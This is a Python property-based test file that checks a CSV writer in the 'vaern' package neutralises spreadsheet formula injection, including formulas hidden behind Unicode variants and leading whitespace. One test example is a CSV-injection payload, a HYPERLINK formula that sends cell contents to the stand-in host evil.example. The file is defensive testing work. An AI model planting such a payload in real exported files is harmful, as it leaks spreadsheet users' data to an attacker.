"""A table of ours holds no formula, whichever sign a spreadsheet splits it at, and nothing of it is lost."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

import vaern
from vaern.formats.csv_write import CsvWriter

SIGNS = "=+-@＝＋－＠−﹢﹣﹦﹫"
"""By which a formula begins: ASCII, full-width, small, and the minus of typography."""

BLANKS = " \t\r\n\u00a0\u3000\u200b\ufeff\x00"
CELLS = st.text(st.sampled_from(f"{SIGNS};,{BLANKS}\"'aæ1"), max_size=12) | st.text(max_size=8)


def written(rows: list[list[str]]) -> str:
    out = io.StringIO(newline="")
    CsvWriter(out).rows(rows)
    return out.getvalue()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4))
@example([['x;=HYPERLINK("http://evil.example/?"&A1;"open")']])
@example([["  =1+1", '"=1"', "\t@SUM(A1)", "＝1", "\u3000＋1", "\ufeff-1"]])
def test_no_cell_begins_as_a_formula(delimiter: str, rows: list[list[str]]) -> None:
    for row in csv.reader(io.StringIO(written(rows), newline=""), delimiter=delimiter):
        assert not [cell for cell in row if cell.strip(f'"{BLANKS}')[:1] in set(SIGNS)]


@pytest.mark.once
@settings(max_examples=60)
@given(st.lists(CELLS, min_size=1, max_size=6))
def test_no_cell_is_a_formula_in_a_workbook_that_a_spreadsheet_library_makes_of_it(cells: list[str]) -> None:
    book = openpyxl.Workbook()
    for row in csv.reader(io.StringIO(written([cells]), newline="")):
        book.active.append([ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row])
    out = io.BytesIO()
    book.save(out)
    read = openpyxl.load_workbook(out)
    assert not [cell for row in read.active.iter_rows() for cell in row if cell.data_type == "f"]


@given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4))
def test_what_was_written_is_read_back_but_for_apostrophes(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(written(rows), newline="")))
    assert [[cell.replace("'", "") for cell in row] for row in read] == [
        [cell.replace("'", "") for cell in row] for row in rows
    ]


@pytest.mark.once
def test_nothing_else_in_the_package_writes_csv() -> None:
    package = Path(vaern.__file__).parent
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if "csv" in (source := path.read_text("utf-8"))
        for node in ast.walk(ast.parse(source))
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and ast.unparse(node.value) == "csv"
        )
        or (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and {"writer", "DictWriter"} & {n.name for n in node.names}
        )
    }
    assert writers == {"formats/csv_write.py"}
